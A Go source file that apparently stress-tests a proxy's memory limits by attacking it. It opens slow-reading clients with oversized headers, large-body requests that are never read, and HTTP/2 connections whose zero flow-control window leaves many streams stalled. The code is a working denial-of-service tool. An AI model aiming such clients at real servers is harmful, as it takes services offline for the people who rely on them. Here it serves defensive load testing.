package main

import (
	"encoding/binary"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// attack is clients that have a proxy hold as much for them as they can.
type attack struct {
	target  string
	stopped chan struct{}
	running sync.WaitGroup
	// asked is what they ask to be held, in bytes.
	asked atomic.Int64
}

// The attack's parts. Each client comes again when it is sent away.
const (
	headClients, headBytes       = 800, 15 << 10
	bodyClients                  = 400
	streamClients, streamsOfEach = 40, 90
)

// attack starts it.
func (c *child) attack() *attack {
	a := &attack{target: c.plain, stopped: make(chan struct{})}
	for range headClients {
		a.client("GET / HTTP/1.1\r\nHost: a\r\nx: "+strings.Repeat("x", headBytes), headBytes)
	}
	for range bodyClients {
		a.client("GET /large HTTP/1.1\r\nHost: a\r\n\r\n", 64<<10)
	}
	for range streamClients {
		a.client(stalledStreams(streamsOfEach), streamsOfEach*64<<10)
	}
	return a
}

// client sends something, reads nothing, and waits to be sent away.
func (a *attack) client(hello string, asks int64) {
	a.asked.Add(asks)
	a.running.Go(func() {
		for !a.pause(time.Second) {
			if nc, err := net.Dial("tcp", a.target); err == nil {
				// What the kernel holds is not the proxy's memory.
				_ = nc.(*net.TCPConn).SetReadBuffer(4 << 10)
				if _, err := io.WriteString(nc, hello); err == nil {
					a.untilClosed(nc)
				}
				nc.Close()
			}
		}
	})
}

// pause waits a little, and reports whether the attack is over.
func (a *attack) pause(d time.Duration) bool {
	select {
	case <-a.stopped:
		return true
	case <-time.After(d):
		return false
	}
}

// untilClosed waits until the connection can be written to no more; who is sent
// away by a reset sees that.
func (a *attack) untilClosed(nc net.Conn) {
	raw, err := nc.(*net.TCPConn).SyscallConn()
	if err != nil {
		return
	}
	for !a.pause(300 * time.Millisecond) {
		if isReset(raw) {
			return
		}
	}
}

func (a *attack) stop() {
	close(a.stopped)
	a.running.Wait()
}

// stalledStreams is what an HTTP/2 client sends that asks for bodies and has no
// window for them.
func stalledStreams(n int) string {
	out := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	// SETTINGS_INITIAL_WINDOW_SIZE is zero.
	out = appendFrame(out, 4, 0, 0, "\x00\x04\x00\x00\x00\x00")
	for i := range n {
		// GET, http and authority "a" by the static table; a path of its own.
		out = appendFrame(out, 1, 5, uint32(2*i+1), "\x82\x86\x41\x01a\x04\x06/large")
	}
	return string(out)
}

func appendFrame(out []byte, kind, flags byte, stream uint32, payload string) []byte {
	out = append(out, 0, byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(out, stream), payload...)
}

// isReset asks the kernel whether a connection has been broken off.
func isReset(raw syscall.RawConn) (reset bool) {
	_ = raw.Control(func(fd uintptr) {
		e, err := syscall.GetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_ERROR)
		reset = err != nil || e != 0
	})
	return reset
}
